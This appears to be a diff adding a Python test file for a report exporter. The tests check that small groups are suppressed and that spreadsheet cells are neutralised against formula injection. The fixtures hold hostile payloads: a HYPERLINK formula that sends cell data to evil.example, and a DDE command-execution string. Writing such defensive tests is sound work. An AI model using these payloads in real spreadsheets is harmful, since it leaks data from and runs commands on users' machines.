@@ -1,0 +1,115 @@
+"""Small groups are never shown as numbers, and spreadsheet cells never run as formulas."""
+
+from __future__ import annotations
+
+from datetime import UTC, date, datetime
+
+import openpyxl
+
+from upstream.coding.workflow import code_workspace
+from upstream.evidence.records import ItemDraft
+from upstream.frameworks import load_codebook
+from upstream.reports import build_report_data, group_size, inert, render_html, render_xlsx
+from upstream.reports.build import gather
+from upstream.reports.model import MatrixRow, Quote, QuoteGroup, ReportData
+from upstream.reports.safety import FEWER_THAN
+from upstream.reports.tables import report_tables
+from upstream.store import Store
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
+
+
+def _store_with_small_groups(path) -> Store:
+    """Northmoor has 12 items (reported); Tiny Trust has 4 (suppressed)."""
+    store = Store(path)
+    with store.writer("Network") as writer:
+        source = writer.add_source("notes.csv", kind="visit notes")
+        drafts = [
+            ItemDraft(
+                text=f"Procurement rules and contracts slowed pilot {n} down; we moved to grants.",
+                line=n + 2,
+                organisation="Northmoor" if n < 12 else "Tiny Trust",
+                item_date=date(2025, 1 + n % 3, 1),
+                attributes={"ward": "Riverside" if n < 11 else "Hilltop"},
+            )
+            for n in range(16)
+        ]
+        writer.insert_items(source, drafts)
+    code_workspace(store, "Network", load_codebook("nom"), embedder="hashing", threshold=0.01)
+    return store
+
+
+def test_small_organisations_and_segments_are_suppressed(tmp_path) -> None:
+    with _store_with_small_groups(tmp_path / "s.db") as store:
+        data = build_report_data(store, "Network")
+        evidence = gather(store, "Network")
+        wards = evidence.segments("ward")
+    sizes = {row.name: row for row in data.by_organisation}
+    assert not sizes["Northmoor"].suppressed and sizes["Tiny Trust"].suppressed
+    assert data.matrix is not None
+    tiny = next(r for r in data.matrix.rows if r.name == "Tiny Trust")
+    assert tiny.suppressed and tiny.counts == [] and tiny.share(0) is None
+    assert wards is not None
+    hilltop = next(r for r in wards.rows if r.name == "Hilltop")
+    riverside = next(r for r in wards.rows if r.name == "Riverside")
+    assert hilltop.suppressed and not riverside.suppressed and riverside.items == 11
+    tables = {t.key: t for t in report_tables(data)}
+    assert ["Tiny Trust", FEWER_THAN] in tables["organisations"].rows
+    row = next(r for r in tables["organisations_by_element"].rows if r[0] == "Tiny Trust")
+    assert row[1] == FEWER_THAN and all(cell is None for cell in row[2:])
+    assert any("fewer than 10" in c and "1 group" in c for c in data.caveats)
+
+
+def test_suppressed_numbers_never_reach_the_files(tmp_path) -> None:
+    with _store_with_small_groups(tmp_path / "s.db") as store:
+        data = build_report_data(store, "Network")
+    html = render_html(data, tmp_path / "r.html").read_text(encoding="utf-8")
+    row = html[html.index('<th scope="row">Tiny Trust</th>') :][:400]
+    assert FEWER_THAN in row and ">4<" not in row
+    book = openpyxl.load_workbook(render_xlsx(data, tmp_path / "r.xlsx"))
+    values = [[c.value for c in r] for r in book["organisations"].iter_rows()]
+    assert ["Tiny Trust", FEWER_THAN] in values
+
+
+def test_group_size_wording() -> None:
+    assert group_size(0) == "0" and group_size(9) == FEWER_THAN and group_size(10) == "10"
+    assert group_size(12345) == "12,345"
+
+
+def _hostile_report() -> ReportData:
+    quote = Quote(HYPERLINK, "=cmd|' /C calc'!A0", "+Chief Executive", None, 0.9, "machine", 1)
+    return ReportData(
+        title="@SUM(1+1)",
+        workspace="-2+3",
+        organisation=None,
+        generated_at=datetime(2025, 6, 1, tzinfo=UTC),
+        items=20,
+        organisations=1,
+        sources=1,
+        first_date=None,
+        last_date=None,
+        headlines=[HYPERLINK],
+        by_organisation=[MatrixRow("=cmd|' /C calc'!A0", 20, 0, [])],
+        coverage=[],
+        top_codes=[],
+        patterns=[],
+        matrix=None,
+        trend=None,
+        quotes=[QuoteGroup("x", "=1+1", 1, [quote])],
+        themes=[],
+        method=None,
+        caveats=["\t=1+2"],
+    )
+
+
+def test_formulas_are_inert_in_the_workbook(tmp_path) -> None:
+    path = render_xlsx(_hostile_report(), tmp_path / "hostile.xlsx")
+    book = openpyxl.load_workbook(path)
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    texts = [c for c in cells if isinstance(c.value, str)]
+    assert texts and all(c.data_type == "s" for c in texts)
+    starts = ("=", "+", "-", "@", "\t", "\r")
+    assert not [c.value for c in texts if c.value.startswith(starts)]
+    quote = next(c.value for c in texts if "HYPERLINK" in c.value)
+    assert quote == "'" + HYPERLINK
+    assert inert("=1") == "'=1" and inert("plain") == "plain"
